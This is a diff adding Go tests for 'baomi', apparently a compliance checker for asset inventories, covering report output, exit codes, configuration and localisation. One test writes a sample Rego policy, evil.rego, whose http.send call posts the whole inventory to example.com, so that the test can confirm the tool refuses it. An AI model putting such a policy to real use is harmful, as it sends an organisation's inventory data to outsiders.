@@ -1,0 +1,270 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+var update = flag.Bool("update", false, "rewrite golden files")
+
+// repoRoot changes the working directory to the repository root, so that paths
+// in reports read as a user running from a checkout sees them.
+func repoRoot(t *testing.T) {
+	t.Helper()
+	t.Chdir("../..")
+}
+
+func runBaomi(t *testing.T, args ...string) (int, string, string) {
+	t.Helper()
+	var stdout, stderr bytes.Buffer
+	code := run(args, &stdout, &stderr)
+	return code, stdout.String(), stderr.String()
+}
+
+func writeInventory(t *testing.T, content string) string {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "inventory.hcl"), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("cmd/baomi/testdata", name)
+	if *update {
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test ./cmd/baomi -update to create it)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("output differs from %s (go test ./cmd/baomi -update rewrites it after a deliberate change)", path)
+	}
+}
+
+func TestCheckAcmeJSONGolden(t *testing.T) {
+	repoRoot(t)
+	code, out, errOut := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
+	if code != 1 {
+		t.Fatalf("exit %d, want 1 (the example has failures); stderr:\n%s", code, errOut)
+	}
+	golden(t, "acme.json", []byte(out))
+	_, again, _ := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
+	if again != out {
+		t.Error("two runs over the same inventory gave different bytes")
+	}
+}
+
+// TestCheckAcmeJSONContract checks the JSON report's shape and its agreement
+// with itself: every result is counted in the summary and in its control.
+func TestCheckAcmeJSONContract(t *testing.T) {
+	repoRoot(t)
+	_, out, _ := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
+	var rep struct {
+		Tool     struct{ Name, Version string }
+		AsOf     string `json:"as_of"`
+		Summary  map[string]int
+		Controls []struct {
+			ID                       string
+			Status                   string
+			Pass, Fail, Warn, Waived int
+		}
+		Results []struct {
+			Control, Status, Resource, Severity string
+			Location                            *struct {
+				File         string
+				Line, Column int
+			}
+		}
+	}
+	if err := json.Unmarshal([]byte(out), &rep); err != nil {
+		t.Fatal(err)
+	}
+	if rep.Tool.Name != "baomi" || rep.AsOf != "2026-11-26" {
+		t.Errorf("tool %+v as_of %q", rep.Tool, rep.AsOf)
+	}
+	counts := map[string]int{}
+	for _, r := range rep.Results {
+		counts[r.Status]++
+		if r.Location == nil || !strings.HasPrefix(r.Location.File, "fixtures/acme/") || r.Location.Line < 1 {
+			t.Errorf("result %s %s has no usable location: %+v", r.Control, r.Resource, r.Location)
+		}
+	}
+	for _, s := range []string{"pass", "fail", "warn", "waived"} {
+		if counts[s] != rep.Summary[s] {
+			t.Errorf("summary %s = %d, results hold %d", s, rep.Summary[s], counts[s])
+		}
+		if counts[s] == 0 {
+			t.Errorf("the example inventory shows no %s result", s)
+		}
+	}
+	if rep.Summary["results"] != len(rep.Results) || rep.Summary["controls"] != len(rep.Controls) {
+		t.Errorf("summary %v does not match %d results / %d controls", rep.Summary, len(rep.Results), len(rep.Controls))
+	}
+}
+
+func TestExitStatus(t *testing.T) {
+	clean := writeInventory(t, "site \"hq\" {\n  kind = \"office\"\n}\n")
+	failing := writeInventory(t, `system "db" {
+  kind = "server"
+}
+data_asset "d" {
+  category       = "identity"
+  classification = "secret"
+  stored_in      = [system.db]
+}
+`)
+	broken := writeInventory(t, "system \"db\" {\n  kind = \"serverr\"\n}\n")
+	for _, tc := range []struct {
+		name string
+		args []string
+		code int
+		err  string
+	}{
+		{"nothing applies", []string{"check", clean}, 0, ""},
+		{"failures", []string{"check", failing, "--as-of", "2026-11-26"}, 1, ""},
+		{"failures below fail-on", []string{"check", failing, "--as-of", "2026-11-26", "--fail-on", "critical"}, 0, ""},
+		{"failures at fail-on", []string{"check", failing, "--as-of", "2026-11-26", "--fail-on", "high"}, 1, ""},
+		{"bad inventory", []string{"check", broken}, 2, "inventory.hcl:2:10: error: Invalid value"},
+		{"missing path", []string{"check", "no/such/dir"}, 2, "no/such/dir: error: cannot read inventory path"},
+		{"bad as-of", []string{"check", clean, "--as-of", "26/11/2026"}, 2, "--as-of 26/11/2026"},
+		{"bad fail-on", []string{"check", clean, "--fail-on", "severe"}, 2, "--fail-on"},
+		{"bad format", []string{"check", clean, "--format", "xml"}, 2, "--format xml"},
+		{"bad lang", []string{"check", clean, "--lang", "fr"}, 2, "--lang fr"},
+		{"unknown flag", []string{"check", clean, "--nope"}, 2, "unknown flag"},
+		{"unknown skip", []string{"check", clean, "--skip", "backup-encryptd"}, 2, "did you mean backup-encrypted?"},
+		{"missing policy folder", []string{"check", clean, "--policy", "no/such/policies"}, 2, "no/such/policies"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			code, _, errOut := runBaomi(t, tc.args...)
+			if code != tc.code {
+				t.Errorf("exit %d, want %d; stderr:\n%s", code, tc.code, errOut)
+			}
+			if !strings.Contains(errOut, tc.err) {
+				t.Errorf("stderr lacks %q:\n%s", tc.err, errOut)
+			}
+			if strings.Contains(errOut, "goroutine ") || strings.Contains(errOut, "panic") {
+				t.Errorf("stack trace on stderr:\n%s", errOut)
+			}
+		})
+	}
+}
+
+func TestUserPolicyFolder(t *testing.T) {
+	repoRoot(t)
+	code, out, errOut := runBaomi(t, "check", "fixtures/acme", "--policy", "evaluator/testdata/user", "--format", "json", "--as-of", "2026-11-26")
+	if code != 1 {
+		t.Fatalf("exit %d; stderr:\n%s", code, errOut)
+	}
+	if !strings.Contains(out, `"control": "ACME-4.2.1-01"`) || !strings.Contains(out, `"id": "ACME-4.2.1-01"`) {
+		t.Error("the user control is missing from the report")
+	}
+	code, out, _ = runBaomi(t, "controls", "--policy", "evaluator/testdata/user")
+	if code != 0 || !strings.Contains(out, "ACME-4.2.1-01") {
+		t.Errorf("baomi controls does not list the user control (exit %d)", code)
+	}
+}
+
+func TestForbiddenBuiltinRefused(t *testing.T) {
+	dir := t.TempDir()
+	policy := `# METADATA
+# title: Leaks
+# description: Sends the inventory away.
+# custom:
+#   id: EVIL-1.1-01
+#   short_code: evil
+#   article: "1.1"
+#   severity: low
+#   title_zh: 外泄
+#   remediation: none
+#   remediation_zh: 无
+package evil
+
+applicable contains "system.db"
+
+deny contains {"resource": "system.db", "message": r.body} if {
+	r := http.send({"method": "post", "url": "https://example.com", "body": input})
+}
+`
+	if err := os.WriteFile(filepath.Join(dir, "evil.rego"), []byte(policy), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	inv := writeInventory(t, "site \"hq\" {}\n")
+	code, _, errOut := runBaomi(t, "check", inv, "--policy", dir)
+	if code != 2 || !strings.Contains(errOut, "evil.rego:17:7") || !strings.Contains(errOut, "http.send is not allowed") {
+		t.Errorf("exit %d, stderr:\n%s", code, errOut)
+	}
+}
+
+func TestConfigPrecedence(t *testing.T) {
+	inv := writeInventory(t, `system "db" {
+  kind = "server"
+}
+data_asset "d" {
+  category       = "identity"
+  classification = "secret"
+  stored_in      = [system.db]
+}
+`)
+	t.Chdir(t.TempDir())
+	if err := os.WriteFile("baomi.yaml", []byte("fail-on: critical\nsettings:\n  patch_max_age_days: 10\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if code, _, errOut := runBaomi(t, "check", inv); code != 0 {
+		t.Errorf("baomi.yaml fail-on critical: exit %d, want 0\n%s", code, errOut)
+	}
+	t.Setenv("BAOMI_FAIL_ON", "high")
+	if code, _, _ := runBaomi(t, "check", inv); code != 1 {
+		t.Errorf("env over file: exit %d, want 1", code)
+	}
+	if code, _, _ := runBaomi(t, "check", inv, "--fail-on", "critical"); code != 0 {
+		t.Errorf("flag over env: exit %d, want 0", code)
+	}
+	if err := os.WriteFile("other.yaml", []byte("settings:\n  patch_max_age_dayz: 10\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, _, errOut := runBaomi(t, "check", inv, "--config", "other.yaml")
+	if code != 2 || !strings.Contains(errOut, `did you mean "patch_max_age_days"`) {
+		t.Errorf("unknown setting: exit %d\n%s", code, errOut)
+	}
+	t.Setenv("BAOMI_SETTINGS_BACKUP_MIN_FREQUENCY", "hourly")
+	code, _, errOut = runBaomi(t, "check", inv)
+	if code != 2 || !strings.Contains(errOut, "backup_min_frequency must be one of") {
+		t.Errorf("bad setting from env: exit %d\n%s", code, errOut)
+	}
+}
+
+func TestTableAndLanguage(t *testing.T) {
+	repoRoot(t)
+	_, out, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--lang", "en")
+	if !strings.Contains(out, "Severity") || strings.Contains(out, "│ pass ") {
+		t.Errorf("default table must show failures and warnings only:\n%s", out)
+	}
+	last := strings.TrimSpace(out[strings.LastIndex(strings.TrimSpace(out), "\n")+1:])
+	if !strings.HasPrefix(last, "39 controls, ") {
+		t.Errorf("summary line = %q", last)
+	}
+	_, all, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--show", "all", "--lang", "en")
+	if !strings.Contains(all, "│ pass ") {
+		t.Error("--show all must list passes")
+	}
+	_, zh, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--lang", "zh")
+	if !strings.Contains(zh, "严重程度") || !strings.Contains(zh, "项控制") || !strings.Contains(zh, "四(二)1") {
+		t.Errorf("--lang zh output is not Chinese:\n%s", zh)
+	}
+	t.Setenv("LANG", "zh_CN.UTF-8")
+	_, loc, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26")
+	if !strings.Contains(loc, "严重程度") {
+		t.Error("a zh LANG locale must select Chinese when no --lang is given")
+	}
+}
